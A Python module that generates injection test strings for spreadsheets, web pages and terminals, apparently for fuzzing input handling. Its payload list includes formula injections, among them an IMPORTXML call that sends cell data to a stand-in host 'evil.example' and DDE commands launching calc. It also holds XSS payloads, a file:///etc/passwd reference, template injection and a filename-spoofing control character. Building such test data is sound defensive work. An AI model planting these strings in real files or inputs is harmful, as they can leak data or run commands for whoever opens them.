"""Text that would be something else than text in a spreadsheet, a page or a terminal, if anybody parsed it."""

from __future__ import annotations

from itertools import islice
from random import Random

BEGINNINGS = (
    "",
    "=",
    "+",
    "-",
    "@",
    "\t=",
    " =",
    "\r\n=",
    "'=",
    "＝",
    "=-",
    "==",
    "\u200b=",
    "\ufeff=",
    "{=",
    "=+",
    "|",
)
MIDDLES = (
    'IMPORTXML("https://evil.example/"&A1,"//a")',
    'HYPERLINK("https://evil.example","here")',
    'IMAGE("https://evil.example/x.png")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "1+1",
    "SUM(A:A)",
    "https://evil.example/?q=1",
    "javascript:alert(1)",
    "mailto:evil@evil.example",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "external:c:\\evil.xlsx",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><svg onload=alert(1)>",
    "{{7*7}}",
    "&lt;b&gt;",
    "#REF!",
    "TRUE",
    "2026-12-31",
    "0042",
    "1e309",
    "_xlfn.WEBSERVICE(A1)",
    "ARRAYFORMULA(A:A)",
    "支付＝上线",
    "a\u202egnp.exe",
    "a]]>b",
    "_x000D_",
    "%s%n{0}",
)
ENDINGS = ("", "\n", " ", '"', "'", "\u2028", "}", "😀", "\x7f", "&A1&", "\n=1+1", "<!--", "%00")


def strings(count: int, seed: int = 0) -> list[str]:
    """So many of them, no two alike; the first are the beginnings themselves."""
    dice, found = Random(seed), dict.fromkeys(text for text in BEGINNINGS if text.strip())
    while len(found) < count:
        parts = (dice.choice(BEGINNINGS), dice.choice(MIDDLES), dice.choice(ENDINGS), dice.choice(("", *MIDDLES)))
        found[parts[0] + parts[1] + parts[2] + parts[3]] = None
    return list(islice(found, count))
